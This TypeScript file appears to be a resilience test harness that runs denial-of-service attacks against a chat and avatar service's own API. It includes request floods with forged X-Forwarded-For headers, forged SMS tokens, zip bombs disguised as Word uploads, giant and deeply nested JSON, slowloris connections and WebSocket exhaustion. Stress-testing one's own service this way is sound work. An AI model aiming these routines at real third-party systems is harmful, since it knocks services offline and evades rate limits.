import { createHash, randomInt } from 'node:crypto';
import { Agent, request } from 'node:http';
import { setTimeout as delay } from 'node:timers/promises';
import { io } from 'socket.io-client';
import { SMS_TOKEN_PREFIX } from '../../../contract/constants';
import { zipOf } from '../../fixtures/hostile-documents';
import { hold, speakWebSocket } from './raw-sockets';
import { noisySound } from './writers';

export interface Target {
  address: string;
  /** An account and a project of its own. */
  token: string;
  projectId: string;
  knowledgeId: string;
  /** A share code. */
  code: string;
  /** How many sockets are opened where that is the attack. */
  sockets: number;
}

export interface Course {
  /** When it ends, on the clock of `performance`. */
  until: number;
  /** Notes an answer. */
  count(what: string | number): void;
}

type Attack = (target: Target, course: Course) => Promise<void>;

interface Shot {
  method: string;
  path: string;
  headers?: Record<string, string>;
  body?: string | Buffer;
}

const ONE = '203.0.113.9';
/** Addresses of a crowd: the proxy names another one each time. */
const anyAddress = () => `203.0.${randomInt(114, 255)}.${randomInt(1, 255)}`;
const json = { 'content-type': 'application/json' };
const MB = 1024 * 1024;

/** Sends requests as fast as they are answered, so many at once. */
async function flood(
  { address }: Target,
  { until, count }: Course,
  atOnce: number,
  shotOf: () => Shot,
): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: atOnce });
  const shoot = ({ method, path, headers, body }: Shot) =>
    new Promise<string>((resolve) => {
      const sent = request(new URL(path, address), { method, agent, headers, timeout: 20_000 });
      sent.once('error', (error: Error & { code?: string }) => resolve(error.code ?? 'error'));
      sent.once('timeout', () => sent.destroy());
      sent.once('response', (response) => {
        response.resume();
        response.once('close', () => resolve(String(response.statusCode)));
      });
      sent.end(body);
    });
  const worker = async () => {
    while (performance.now() < until) count(await shoot(shotOf()));
  };
  await Promise.all(Array.from({ length: atOnce }, worker));
  agent.destroy();
}

const wrongLogin = (from: string): Shot => ({
  method: 'POST',
  path: `/api/v1/auth/pwd?phone=139${randomInt(10_000_000, 99_999_999)}&password=${'a'.repeat(64)}`,
  headers: { 'x-forwarded-for': from },
});

const form = (name: string, parts: readonly { head: string; bytes: Buffer }[]): Buffer =>
  Buffer.concat([
    ...parts.flatMap(({ head, bytes }) => [
      Buffer.from(`--${name}\r\ncontent-disposition: form-data; ${head}\r\n\r\n`),
      bytes,
      Buffer.from('\r\n'),
    ]),
    Buffer.from(`--${name}--\r\n`),
  ]);
const formHeaders = (token: string, from = ONE) => ({
  authorization: token,
  'x-forwarded-for': from,
  'content-type': 'multipart/form-data; boundary=bound',
});

const question = ({ token, code, projectId }: Target, text: string, from: string, shared = false) => ({
  session: {
    method: 'POST',
    path: shared ? '/api/v1/conversation/share/session' : '/api/v1/avatar/session/add',
    headers: { authorization: shared ? code : token, 'x-forwarded-for': from, ...json },
    body: shared ? '{}' : JSON.stringify({ projectId }),
  },
  ask: (sessionId: string): Shot => ({
    method: 'POST',
    path: '/api/v1/chat/conversation',
    headers: { authorization: shared ? code : token, 'x-forwarded-for': from, ...json },
    body: JSON.stringify({ sessionId, text }),
  }),
});

/** A conversation of the attacker's, in which it asks. */
async function sessionOf(target: Target, shared: boolean): Promise<string> {
  const { session } = question(target, '', anyAddress(), shared);
  const response = await fetch(target.address + session.path, session);
  return ((await response.json()) as { data: { sessionId: string } }).data.sessionId;
}

const HARD_TEXTS = [
  `${'a'.repeat(50_000)}!`,
  `${'1.'.repeat(25_000)}@`,
  `${'http://'.repeat(7_000)}`,
  `${' \t'.repeat(25_000)}x`,
  `${'¥1,000,'.repeat(7_000)}元`,
  `${'2026-'.repeat(10_000)}年`,
  `${'（('.repeat(25_000)}`,
];

async function questions(target: Target, course: Course, shared: boolean, text: () => string): Promise<void> {
  const sessions = await Promise.all(Array.from({ length: 8 }, () => sessionOf(target, shared)));
  await flood(target, course, 64, () =>
    question(target, text(), anyAddress(), shared).ask(sessions[randomInt(sessions.length)] ?? ''),
  );
}

const deepJson = `{"name":${'['.repeat(2_900_000)}${']'.repeat(2_900_000)}}`;
const wideJson = () => `{"name":"x",${Array.from({ length: 400_000 }, (_, n) => `"k${n}":1`).join(',')}}`;

/** Zip files that say they are Word documents, and are a thousand times as large when read. */
const bomb = () =>
  zipOf([
    { name: '[Content_Types].xml', bytes: Buffer.from('<Types/>') },
    { name: 'word/document.xml', bytes: Buffer.alloc(40 * MB, 0x20) },
  ]);

export const attacks = {
  'log-ins from one address': (target, course) => flood(target, course, 64, () => wrongLogin(ONE)),
  'log-ins with forged X-Forwarded-For': (target, course) =>
    flood(target, course, 64, () => wrongLogin(`${anyAddress()}, ${anyAddress()}, ${ONE}`)),
  'text messages from one address': (target, course) =>
    flood(target, course, 64, () => {
      const phone = `139${randomInt(10_000_000, 99_999_999)}`;
      const token = createHash('sha256')
        .update(SMS_TOKEN_PREFIX + phone)
        .digest('hex');
      return {
        method: 'POST',
        path: `/api/v1/ssm/send?token=${token}`,
        headers: { 'x-forwarded-for': ONE, ...json },
        body: JSON.stringify({ countryCode: '86', phone, type: 'sms_login' }),
      };
    }),
  'pages from one address': (target, course) =>
    flood(target, course, 64, () => ({ method: 'GET', path: '/', headers: { 'x-forwarded-for': ONE } })),
  'questions of one account, a crowd of addresses': (target, course) =>
    questions(target, course, false, () => '你是谁？'),
  'questions with one share code, a crowd of addresses': (target, course) =>
    questions(target, course, true, () => '你是谁？'),
  'texts that are hard on patterns': (target, course) =>
    questions(target, course, false, () => HARD_TEXTS[randomInt(HARD_TEXTS.length)] ?? ''),
  'uploads of one account': (target, course) => {
    const bytes = noisySound(5 * MB);
    const body = form('bound', [{ head: 'name="files"; filename="noise.wav"', bytes }]);
    return flood(target, course, 16, () => ({
      method: 'POST',
      path: '/api/v1/oss/upload-material',
      headers: formHeaders(target.token),
      body,
    }));
  },
  'giant and deep JSON': (target, course) => {
    const bodies = [deepJson, wideJson(), `{"name":"${'x'.repeat(5_900_000)}"}`, 'x'.repeat(8 * MB)];
    return flood(target, course, 8, () => ({
      method: 'POST',
      path: '/api/v1/avatar/project/add',
      headers: { 'x-forwarded-for': ONE, ...json },
      body: bodies[randomInt(bodies.length)] ?? '',
    }));
  },
  'forms of ten thousand parts': (target, course) => {
    const parts = Array.from({ length: 10_000 }, (_, n) => ({
      head: `name="field${n}"`,
      bytes: Buffer.from('x'),
    }));
    const giant = [{ head: `name="${'n'.repeat(100_000)}"`, bytes: Buffer.alloc(4 * MB, 'x') }];
    const bodies = [form('bound', parts), form('bound', giant)];
    return flood(target, course, 16, () => ({
      method: 'POST',
      path: '/api/v1/oss/upload-material',
      headers: formHeaders(target.token),
      body: bodies[randomInt(2)] ?? '',
    }));
  },
  'zip bombs as documents and projects': (target, course) => {
    const bytes = bomb();
    const document = form('bound', [
      { head: `name="knowledgeId"`, bytes: Buffer.from(target.knowledgeId) },
      { head: 'name="files"; filename="bomb.docx"', bytes },
    ]);
    const project = form('bound', [{ head: 'name="files"; filename="bomb.zip"', bytes }]);
    let turn = 0;
    return flood(target, course, 4, () => {
      const isDocument = turn++ % 2 === 0;
      return {
        method: 'POST',
        path: `/api/v1/avatar/${isDocument ? 'document/upload_document' : 'project/import'}`,
        headers: formHeaders(target.token),
        body: isDocument ? document : project,
      };
    });
  },
  'huge headers': (target, course) =>
    flood(target, course, 64, () => ({
      method: 'GET',
      path: '/',
      headers: { 'x-forwarded-for': ONE, cookie: 'c='.padEnd(60_000, 'x') },
    })),
  'slow headers': (target, course) =>
    hold(target.address, course, {
      sockets: Math.min(2_000, target.sockets),
      opening: 'GET / HTTP/1.1\r\nhost: a\r\n',
      drip: 'x: y\r\n',
    }),
  'slow bodies': (target, course) =>
    hold(target.address, course, {
      sockets: Math.min(1_000, target.sockets),
      opening: `POST /api/v1/auth/login HTTP/1.1\r\nhost: a\r\nx-forwarded-for: ${ONE}\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n`,
      drip: ' ',
    }),
  'readers that do not read': (target, course) =>
    hold(target.address, course, {
      sockets: Math.min(500, target.sockets),
      opening: `GET /provider/avatar/1001/still HTTP/1.1\r\nhost: a\r\n\r\n`.repeat(50),
      isDeaf: true,
    }),
  'viewers that do not read': (target, course) =>
    speakWebSocket(target.address, course, {
      sockets: 40,
      path: `/provider/ws/video?token=${target.code}&avatar=1001&voice=3080`,
      fromEach: anyAddress,
      say: 'next',
      isDeaf: true,
    }),
  'sockets that never speak': (target, course) =>
    hold(target.address, course, { sockets: target.sockets, opening: '' }),
  'sockets of pages that never say who they are': (target, course) =>
    speakWebSocket(target.address, course, {
      sockets: Math.min(5_000, target.sockets),
      path: '/socket.io/?EIO=4&transport=websocket',
      fromEach: () => ONE,
    }),
  'handshakes of pages that never come': (target, course) =>
    flood(target, course, 64, () => ({
      method: 'GET',
      path: '/socket.io/?EIO=4&transport=polling',
      headers: { 'x-forwarded-for': ONE },
    })),
  'messages of pages': async (target, { until, count }) => {
    const pages = Array.from({ length: 20 }, () =>
      io(target.address, { transports: ['websocket'], auth: { token: target.token }, forceNew: true }),
    );
    await Promise.all(
      pages.map((page) => new Promise((resolve) => page.once('connect', () => resolve(null)))),
    );
    const change = { projectId: target.projectId, sequence: 1, patches: [], padding: 'x'.repeat(50_000) };
    for (; performance.now() < until; await delay(5)) {
      for (const page of pages) {
        for (let n = 0; n < 5; n++) {
          page.emit('project:watch', target.projectId, (is: boolean) => count(is ? 'watched' : 'refused'));
          page.emit('project:live', change);
        }
      }
    }
    for (const page of pages) page.close();
  },
} satisfies Record<string, Attack>;

export type AttackName = keyof typeof attacks;
